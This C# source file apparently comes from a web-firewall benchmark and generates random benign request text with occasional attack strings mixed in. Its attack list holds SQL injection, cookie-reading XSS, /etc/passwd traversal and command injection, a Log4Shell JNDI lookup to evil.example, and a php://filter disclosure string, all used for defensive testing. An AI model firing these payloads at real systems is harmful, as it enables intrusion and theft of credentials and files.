using System.Text;

namespace Bulwark.Bench.Firewall;

/// <summary>What ordinary people send, and now and then an attack, drawn from a seed: no value comes twice, so that nothing can be known from before.</summary>
internal sealed class RequestDice(ulong seed) : Dice(seed)
{
    private const string Letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";

    // Words that say nothing to the rules by themselves.
    private static readonly string[] Words =
        ("meeting tomorrow morning please bring your notes about garden and lunch with friends before evening train station window paper green yellow river stone music " +
        "weather looks better than yesterday everybody agrees thanks again coffee kitchen photo album summer holiday mountain village bicycle repair shop ticket price " +
        "question answer quick reply later maybe never always happy birthday little brother sister uncle school lesson number nine seven twelve hundred").Split(' ');

    private static readonly string[] Attacks =
    [
        "1' or '1'='1' -- ", "<script>alert(document.cookie)</script>", "../../../../etc/passwd", ";cat /etc/passwd", "${jndi:ldap://evil.example/a}",
        "1 union select name, password from users", "<img src=x onerror=alert(1)>", "php://filter/convert.base64-encode/resource=index.php",
    ];

    public string Word() => Pick(Words);

    /// <summary>An attack that the rules know at their first level, in a shape of its own.</summary>
    public string Attack() => $"{Word()} {Pick(Attacks)}";

    /// <summary>A sentence or several.</summary>
    public string Text(int length)
    {
        var text = new StringBuilder(length + 16);
        while (text.Length < length)
        {
            text.Append(Next(12) == 0 ? Next(100).ToString(System.Globalization.CultureInfo.InvariantCulture) : Word());
            text.Append(Next(8) switch { 0 => ". ", 1 => ", ", _ => " " });
        }

        return text.ToString(0, length).TrimEnd();
    }

    public string Token(int length) => string.Create(length, this, (span, dice) =>
    {
        foreach (ref var letter in span)
            letter = Letters[dice.Next(Letters.Length)];
    });
}
